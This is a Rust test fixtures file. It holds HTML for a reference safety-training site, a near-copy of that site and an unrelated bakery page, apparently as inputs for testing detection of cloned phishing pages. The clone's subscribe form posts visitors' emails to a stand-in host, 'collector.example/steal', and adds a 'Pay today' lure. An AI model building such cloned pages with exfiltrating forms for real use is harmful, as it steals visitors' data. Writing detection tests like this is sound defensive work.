#![allow(dead_code)]

//! HTML fixtures shared by the integration tests.

/// Reference site.
pub const ACME: &str = r##"<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Acme Safety</title>
  <meta name="description" content="Workplace safety training and compliance audits">
  <meta property="og:site_name" content="Acme Safety Co">
  <style>.hero { color: #ff0000 }</style>
</head>
<body>
  <nav class="navbar">
    <a class="navbar-brand" href="/">Acme Safety</a>
    <a href="/courses">Courses</a>
    <a href="/audits">Audits</a>
    <a href="/contact">Contact</a>
  </nav>
  <section class="hero bg-blue-600 text-white" style="border-color:#1d4ed8">
    <h1>Safety training that sticks</h1>
    <p>Acme Safety delivers forklift safety training, compliance audits and
       hazard assessments for warehouses and factories.</p>
    <a class="btn bg-orange-500" href="/book">Book a course</a>
  </section>
  <section>
    <h2>Our courses</h2>
    <div class="card">Forklift safety training</div>
    <div class="card">Hazard assessments</div>
    <div class="card">Compliance audits</div>
  </section>
  <form action="/subscribe"><input type="email"><input type="submit" value="Subscribe"></form>
  <script>window.analytics = "safety training tracker";</script>
</body>
</html>"##;

/// Lightly edited copy of [`ACME`]: new domain name in the copy, same
/// structure, colours and most text.
pub const ACME_CLONE: &str = r##"<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Acme Safety</title>
  <meta name="description" content="Workplace safety training and compliance audits">
  <meta property="og:site_name" content="Acme Safety Co">
</head>
<body>
  <nav class="navbar">
    <a class="navbar-brand" href="/">Acme Safety</a>
    <a href="/courses">Courses</a>
    <a href="/audits">Audits</a>
    <a href="/contact">Contact</a>
  </nav>
  <section class="hero bg-blue-600 text-white" style="border-color:#1d4ed8">
    <h1>Safety training that sticks</h1>
    <p>Acme Safety delivers forklift safety training, compliance audits and
       hazard assessments. Pay today for instant certificates.</p>
    <a class="btn bg-orange-500" href="/pay">Book a course</a>
  </section>
  <section>
    <h2>Our courses</h2>
    <div class="card">Forklift safety training</div>
    <div class="card">Hazard assessments</div>
    <div class="card">Compliance audits</div>
  </section>
  <form action="https://collector.example/steal"><input type="email"><input type="submit" value="Subscribe"></form>
</body>
</html>"##;

/// Unrelated business.
pub const BAKERY: &str = r##"<!doctype html>
<html>
<head>
  <title>Rosie's Bakery</title>
  <meta name="description" content="Sourdough, pastries and custom cakes baked fresh">
</head>
<body>
  <header><span class="logo">Rosie's</span></header>
  <h1>Fresh from the oven</h1>
  <p style="background:#f5deb3">Sourdough loaves, croissants, cinnamon rolls and
     celebration cakes baked every morning in our neighbourhood kitchen.</p>
  <p>Order cakes three days ahead.</p>
</body>
</html>"##;
